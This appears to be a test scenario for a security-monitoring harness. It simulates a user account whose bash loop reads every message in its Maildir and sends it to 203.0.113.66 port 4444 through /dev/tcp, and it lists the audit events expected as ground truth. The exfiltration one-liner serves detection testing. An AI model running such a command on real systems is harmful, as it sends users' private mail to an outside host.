# Only a shell: it reads each message itself and writes into /dev/tcp.
title="Shell loop reads messages and writes them into /dev/tcp"
what="A bash one-liner of clerk reads each message of the Maildir with the shell's own redirection and writes it to 203.0.113.66 port 4444 through /dev/tcp. Apart from the login shell no program is started."
host=mx1.example.org user=clerk daemons="cron sshd" audit_format=RAW

act() {
  small_talk 3
  for n in 1 2 3 4 5; do mail_in --from "partner$n@example.net" --to clerk+work@example.org --subject "Item $n"; done
  wait_mail clerk 5
  ssh_as clerk <<'L'
for f in Maildir/new/*; do m=$(<"$f"); exec 3<>/dev/tcp/203.0.113.66/4444; printf '%s\n' "$m" >&3; exec 3>&-; done
pwd
L
  small_talk 1
}
truth() {
  mail_step deliver 'to=<clerk.work@example.org>.*status=sent' 'mail lies in the Maildir of clerk'
  file_step read 'bash openat:read NORMAL .*Maildir/new/.+' 'the shell reads the messages itself'
  net_step connect 'bash 203.0.113.66:4444' 'and connects'
}
